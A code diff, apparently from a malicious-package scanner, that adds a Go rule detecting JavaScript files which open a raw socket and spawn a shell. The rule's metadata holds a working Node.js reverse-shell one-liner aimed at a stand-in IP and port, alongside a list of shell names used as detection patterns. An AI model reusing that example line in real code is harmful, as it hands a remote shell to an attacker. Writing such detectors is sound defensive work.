@@ -97,3 +97,48 @@ func jclip(s string) string {
 	}
 	return s
 }
+
+// ReverseShell flags a shell wired to a network socket.
+type ReverseShell struct{}
+
+// Meta implements analyze.Rule.
+func (ReverseShell) Meta() analyze.Meta {
+	return analyze.Meta{
+		ID: "proc/reverse-shell", Version: 1, Title: "Opens a reverse shell",
+		Help: "One file opens a raw TCP connection and starts a shell (sh, bash, cmd.exe, PowerShell) whose input and output are piped to it. " +
+			"That hands an interactive shell on your machine to whoever listens at the other end.",
+		Remediation:     "Remove the package and treat the machine as compromised if it ran.",
+		Example:         `const s = net.connect(4444, "203.0.113.5", () => { const sh = spawn("/bin/sh"); s.pipe(sh.stdin); sh.stdout.pipe(s) })`,
+		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
+	}
+}
+
+var shells = map[string]bool{"sh": true, "bash": true, "zsh": true, "/bin/sh": true, "/bin/bash": true, "/bin/zsh": true, "/usr/bin/bash": true,
+	"cmd": true, "cmd.exe": true, "powershell": true, "powershell.exe": true, "pwsh": true}
+
+// Check implements analyze.Rule.
+func (ReverseShell) Check(ctx context.Context, t *analyze.Target, r analyze.Reporter) error {
+	for _, f := range rulekit.Code(ctx, t) {
+		sock := false
+		for _, c := range f.Facts.Calls {
+			switch c.Callee {
+			case "net.Socket", "net.connect", "net.createConnection", "tls.connect":
+				sock = true
+			}
+		}
+		if !sock {
+			continue
+		}
+		for _, c := range f.Facts.Calls {
+			if !rulekit.IsSpawn(c) {
+				continue
+			}
+			if cmd := rulekit.SpawnCommand(c); shells[strings.ToLower(strings.Fields(cmd + " x")[0])] {
+				r.Report(analyze.Instance{File: f.Name, Line: c.Pos.Line, Confidence: finding.ConfidenceHigh,
+					Message: fmt.Sprintf("connects a raw socket and spawns %q", cmd), Evidence: rulekit.Ev(c.Snippet, "", "")})
+				break
+			}
+		}
+	}
+	return nil
+}
